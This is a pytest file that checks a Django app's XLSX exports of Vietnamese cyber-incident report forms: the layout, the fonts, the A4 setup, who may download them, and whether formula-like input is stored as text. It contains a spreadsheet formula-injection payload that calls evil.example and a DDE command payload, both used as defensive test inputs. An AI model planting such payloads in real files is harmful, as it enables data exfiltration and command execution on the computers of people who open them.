"""The reports as XLSX (Mẫu 03 and Mẫu 04), opened with openpyxl: title, sections, Times New Roman, A4, and text that
looks like a formula stored as text."""

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from dieuhanh.monitoring.services_security import security_incident_advance, security_incident_record_report
from dieuhanh.monitoring.tests.test_security_fixtures import *  # noqa: F403
from dieuhanh.monitoring.xlsx_security import closing_report_workbook, initial_report_workbook

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def rows_of(ws) -> dict:
    """Label (column A) → value (column B)."""
    return {row[0].value: row[1].value for row in ws.iter_rows(min_row=1) if row[0].value}


def test_the_initial_report_in_the_layout_of_form_03(make_incident):
    incident = make_incident(description=ATTACK, symptoms="+cmd|' /C calc'!A0", serious=True,
                             serious_reason="Không tự khắc phục được", confidential=True)
    wb = load_workbook(io.BytesIO(initial_report_workbook(incident)))
    ws = wb.active
    texts = [c.value for c in ws["A"] if c.value]
    assert "BÁO CÁO BAN ĐẦU SỰ CỐ MẠNG" in texts
    assert "(Mẫu 03 — Thông tư 20/2017/TT-BTTTT)" in texts
    for section in ("1. Thông tin về tổ chức, cá nhân báo cáo sự cố", "2. Thông tin người liên hệ",
                    "3. Thông tin về hệ thống thông tin bị sự cố", "4. Thông tin về sự cố", "6. Đề xuất, kiến nghị"):
        assert section in texts
    values = rows_of(ws)
    assert values["Tên tổ chức, cá nhân báo cáo"] == "Sở Khoa học và Công nghệ"
    assert values["Họ và tên"] == "Trần Thị Lan"
    assert values["Tên hệ thống thông tin"] == "Cổng thông tin điện tử Sở"
    assert values["Cấp độ hệ thống thông tin"] == "Cổng thông tin điện tử Sở: cấp độ 2"
    assert values["Ngày phát hiện"] == "01/12/2026" and values["Thời gian phát hiện"] == "10:00"
    assert values["Hiện trạng sự cố"] == "Đã tiếp nhận, đang xác minh"
    assert values["Sự cố nghiêm trọng (Điều 9 Quyết định 05/2017/QĐ-TTg)"] == "Có — Không tự khắc phục được"
    assert values["Đề nghị giữ bí mật"] == "Có"
    # the description an attacker could have written is text, not a formula
    cell = next(c for c in ws["B"] if c.value == ATTACK)
    assert cell.data_type == "s" and cell.quotePrefix
    assert next(c for c in ws["B"] if c.value == "+cmd|' /C calc'!A0").data_type == "s"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # Times New Roman everywhere, the title larger and bold; A4
    fonts = {c.font.name for row in ws.iter_rows() for c in row if c.value}
    assert fonts == {"Times New Roman"}
    title = next(c for c in ws["A"] if c.value == "BÁO CÁO BAN ĐẦU SỰ CỐ MẠNG")
    assert title.font.bold and title.font.size == 14
    assert int(ws.page_setup.paperSize) == 9  # A4 and ws.page_setup.orientation == "portrait"


def test_the_closing_report_in_the_layout_of_form_04(make_incident, operator):
    incident = make_incident()
    security_incident_record_report(user=operator, incident=incident, kind="initial", number="15/BC-SKHCN",
                                    date=datetime.date(2026, 12, 2))
    security_incident_advance(user=operator, incident=incident, status="closed", note="=1+1 đã vá",
                              ended_at=timezone.make_aware(datetime.datetime(2026, 12, 2, 16, 30)))
    incident.refresh_from_db()
    ws = load_workbook(io.BytesIO(closing_report_workbook(incident))).active
    texts = [c.value for c in ws["A"] if c.value]
    assert "BÁO CÁO KẾT THÚC ỨNG PHÓ SỰ CỐ" in texts and "4. Kết quả xử lý sự cố" in texts
    values = rows_of(ws)
    assert values["Số báo cáo ban đầu"] == "15/BC-SKHCN" and values["Ngày báo cáo ban đầu"] == "02/12/2026"
    assert values["Thời điểm kết thúc ứng phó"] == "02/12/2026 16:30"
    assert values["Kết quả xử lý"] == "=1+1 đã vá"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert int(ws.page_setup.paperSize) == 9  # A4


@pytest.mark.parametrize("form", ["03", "04"])
def test_the_download_answers_who_may_see(client, make_incident, leader, reporter_a, operator_b, form):
    incident = make_incident()
    url = f"/systems/security/{incident.pk}/mau-{form}.xlsx"
    client.force_login(leader)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert load_workbook(io.BytesIO(response.content)).active["A4"].value.startswith("BÁO CÁO")
    for user in (reporter_a, operator_b):
        client.force_login(user)
        assert client.get(url).status_code == 404
